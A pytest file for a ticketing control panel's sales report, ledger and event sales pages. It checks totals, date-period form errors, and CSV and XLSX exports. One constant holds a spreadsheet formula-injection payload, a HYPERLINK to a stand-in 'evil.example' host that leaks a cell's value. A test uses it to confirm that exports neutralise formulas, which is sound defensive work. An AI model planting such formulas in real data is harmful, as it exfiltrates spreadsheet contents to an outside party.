"""The report, ledger and event sales pages of the control panel: what each role sees, form
errors for a bad period, the CSV and XLSX downloads (the same rows, totals and formulas
never run), and a twin organization never shown."""

import csv
import io
from datetime import datetime
from decimal import Decimal
from zoneinfo import ZoneInfo

import openpyxl
import pytest
from django_tenants.utils import schema_context

from tests.sales.roles import client_of
from tests.tenants import ALPHA


def test_the_report_of_the_last_30_days_adds_up(world, figures_sales):
    response = client_of(world.team.configurer).get("/control/reports/")

    report = response.context["report"]
    body = response.content.decode()
    assert response.status_code == 200
    assert (report.total.orders, report.total.tickets, report.total.gross) == (3, 4, Decimal("219.00"))
    assert report.total.refunds == Decimal("46.00")
    assert report.payments.card_received == Decimal("81.00")
    assert report.payments.counter_received == Decimal("138.00")
    assert report.payments.counter_refunded == Decimal("46.00")
    assert report.reconciled
    assert report.platform.collected == Decimal("1.50")
    assert "The orders and the payments agree." in body
    assert "ALPHA-B" not in body
    assert {row.label: row.tickets for row in report.channels} == {"Box office": 3, "Online shop": 1}
    assert {row.label: row.tickets for row in report.ticket_types} == {
        "ALPHA-A Concert – ALPHA-A Standard": 3,
        "ALPHA-A Concert – ALPHA-A Pass": 1,
    }


def test_the_report_downloads_as_csv_with_the_same_totals(world, figures_sales):
    response = client_of(world.team.configurer).get("/control/reports/?format=csv")

    text = response.content.decode("utf-8-sig")
    lines = text.splitlines()
    assert response["Content-Type"].startswith("text/csv")
    assert lines[0].startswith("Section,Day, ticket type or channel") or lines[0].startswith(
        'Section,"Day, ticket'
    )
    assert lines[-1] == "Total,,3,4,215.00,4.00,219.00,1,46.00,173.00"


XLSX = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"
HYPERLINK = '=HYPERLINK("https://evil.example/?leak="&A1,"Click")'


def _csv_rows(response) -> list[list[str]]:
    assert response["Content-Type"].startswith("text/csv")
    return list(csv.reader(io.StringIO(response.content.decode("utf-8-sig"), newline="")))


def _sheet(response):
    assert response["Content-Type"] == XLSX
    return openpyxl.load_workbook(io.BytesIO(response.content)).active


def _same_cell(from_csv: str, value) -> bool:
    """An XLSX cell holds what the CSV wrote: the same text, the same number, or the same
    time (the sheet's is the CSV's wall clock, without its offset)."""
    if value is None:
        return from_csv == ""
    if isinstance(value, datetime):
        return from_csv[:19] == value.isoformat(sep=" ", timespec="seconds")
    if isinstance(value, int | float) and not isinstance(value, bool):
        return Decimal(from_csv) == Decimal(str(value))
    return from_csv == value


def _same_rows(csv_rows: list[list[str]], sheet) -> None:
    sheet_rows = list(sheet.iter_rows(values_only=True))
    assert len(sheet_rows) == len(csv_rows)
    for from_csv, from_sheet in zip(csv_rows, sheet_rows, strict=True):
        assert len(from_csv) == len(from_sheet)
        assert all(_same_cell(a, b) for a, b in zip(from_csv, from_sheet, strict=True)), (
            from_csv,
            from_sheet,
        )


def test_the_report_downloads_as_xlsx_with_the_rows_and_totals_of_the_csv_and_the_page(world, figures_sales):
    client = client_of(world.team.configurer)
    page = client.get("/control/reports/")
    from_csv = _csv_rows(client.get("/control/reports/?format=csv"))
    response = client.get("/control/reports/?format=xlsx")

    sheet = _sheet(response)
    report = page.context["report"]
    total = [cell.value for cell in sheet[sheet.max_row]]
    assert response.status_code == 200
    assert response["Content-Disposition"].startswith('attachment; filename="sales-organizer-a-')
    assert response["Content-Disposition"].endswith('.xlsx"')
    assert sheet.title == "Sales report"
    _same_rows(from_csv, sheet)
    assert [c.value for c in sheet[1]] == from_csv[0]
    assert total == ["Total", None, 3, 4, 215, 4, 219, 1, 46, 173]
    assert total[2:] == [
        report.total.orders,
        report.total.tickets,
        report.total.revenue,
        report.total.service_fees,
        report.total.gross,
        report.total.refunded_tickets,
        report.total.refunds,
        report.total.net,
    ]
    assert all(sheet.cell(row=sheet.max_row, column=n).data_type == "n" for n in range(3, 11))
    assert sheet.cell(row=sheet.max_row, column=7).number_format == "#,##0.00"  # EUR's 2 decimals
    days = [row for row in sheet.iter_rows(min_row=2, values_only=True) if row[0] == "Day"]
    assert len(days) == len(report.days) == 30
    assert sum(Decimal(str(row[6])) for row in days) == report.total.gross
    assert page.content.decode().count("format=xlsx") == 1


def test_the_ledger_downloads_as_csv_and_xlsx_with_its_entries_and_closing_totals(world, figures_sales):
    client = client_of(world.team.configurer)
    url = f"/control/organizers/{world.team.a.pk}/ledger/"
    page = client.get(url)
    from_csv = _csv_rows(client.get(f"{url}?format=csv"))
    response = client.get(f"{url}?format=xlsx")

    sheet = _sheet(response)
    ledger, report = page.context["ledger"], page.context["report"]
    amsterdam = ZoneInfo("Europe/Amsterdam")
    last = [cell.value for cell in sheet[sheet.max_row]]
    assert response.status_code == 200
    assert response["Content-Disposition"].startswith('attachment; filename="ledger-organizer-a-')
    assert sheet.title == "Ledger"
    assert from_csv[0][0] == sheet["A1"].value == "When (Europe/Amsterdam)"
    _same_rows(from_csv, sheet)
    assert len(from_csv) - 1 == sheet.max_row - 1 == len(ledger.entries)
    in_amsterdam = [e.when.astimezone(amsterdam).replace(microsecond=0) for e in ledger.entries]
    assert [datetime.fromisoformat(row[0]) for row in from_csv[1:]] == in_amsterdam
    assert [row[0][19:] for row in from_csv[1:]] == [when.isoformat()[19:] for when in in_amsterdam]
    assert [
        sheet.cell(row=n, column=1).value.replace(microsecond=0) for n in range(2, sheet.max_row + 1)
    ] == [when.replace(tzinfo=None) for when in in_amsterdam]  # Excel: the wall clock in Amsterdam
    assert last[6:] == [
        ledger.closing.payments,
        ledger.closing.refunds,
        ledger.closing.platform_fees,
        ledger.closing.balance,
    ]
    assert last[6:] == [report.total.gross, report.total.refunds, report.platform_collected, report.net]
    assert [Decimal(cell) for cell in from_csv[-1][6:]] == [
        Decimal("219.00"),
        Decimal("46.00"),
        Decimal("1.50"),
        Decimal("171.50"),
    ]
    assert 'format=xlsx" download' in page.content.decode()


@pytest.mark.parametrize("file_format", ["csv", "xlsx"])
def test_a_formula_in_a_channel_name_never_runs_in_the_report_downloads(world, figures_sales, file_format):
    with schema_context(ALPHA.schema_name):
        type(world.team.a_box).objects.filter(pk=world.team.a_box.pk).update(name=HYPERLINK)

    response = client_of(world.team.configurer).get(f"/control/reports/?format={file_format}")

    if file_format == "csv":
        assert ["Channel", f"'{HYPERLINK}"] in [row[:2] for row in _csv_rows(response)]
    else:
        sheet = _sheet(response)
        (cell,) = [row[1] for row in sheet.iter_rows(min_row=2) if row[1].value == HYPERLINK]
        assert cell.data_type == "s"
        assert cell.quotePrefix is True


@pytest.mark.parametrize(
    ("query", "message"),
    [
        ("first=2026-05-10&last=2026-05-01", "cannot be before its start"),
        ("first=2024-01-01&last=2026-01-01", "at most a year"),
        ("first=yesterday", "Enter a valid date"),
        ("organizer=999999", "Select a valid choice"),
    ],
)
def test_a_bad_period_is_a_form_error_not_a_500(world, figures_sales, query, message):
    response = client_of(world.team.configurer).get(f"/control/reports/?{query}")

    assert response.status_code == 400
    assert message in response.content.decode()


def test_the_ledger_runs_in_date_order_and_closes_on_the_reports_totals(world, figures_sales):
    response = client_of(world.team.configurer).get(f"/control/organizers/{world.team.a.pk}/ledger/")

    ledger = response.context["ledger"]
    report = response.context["report"]
    whens = [entry.when for entry in ledger.entries]
    assert response.status_code == 200
    assert whens == sorted(whens)
    assert ledger.closing.payments == report.total.gross == Decimal("219.00")
    assert ledger.closing.refunds == report.total.refunds == Decimal("46.00")
    assert ledger.closing.service_fees == report.total.service_fees == Decimal("4.00")
    assert ledger.closing.platform_fees == report.platform_collected == Decimal("1.50")
    assert ledger.closing.balance == report.net == Decimal("171.50")
    assert "The ledger and the report agree." in response.content.decode()


def test_the_event_sales_page_shows_dates_and_ticket_types(world, programme, figures_sales):
    response = client_of(world.team.configurer).get(f"/control/events/{programme.concert.pk}/sales/")

    figures = response.context["figures"]
    assert response.status_code == 200
    assert [(d.sold, d.held, d.capacity) for d in figures.dates] == [(3, 0, 500), (1, 0, 300)]
    by_name = {t.ticket_type.name: t for t in figures.ticket_types}
    assert (by_name["ALPHA-A Standard"].sold, by_name["ALPHA-A Standard"].refunded) == (2, 1)
    assert by_name["ALPHA-A Standard"].revenue == Decimal("90.00")
    assert by_name["ALPHA-A Pass"].revenue == Decimal("80.00")
    assert figures.revenue == Decimal("170.00")


def test_the_event_page_links_to_its_sales(world, programme):
    page = client_of(world.team.configurer).get(f"/control/events/{programme.concert.pk}/")

    assert f'href="/control/events/{programme.concert.pk}/sales/"' in page.content.decode()
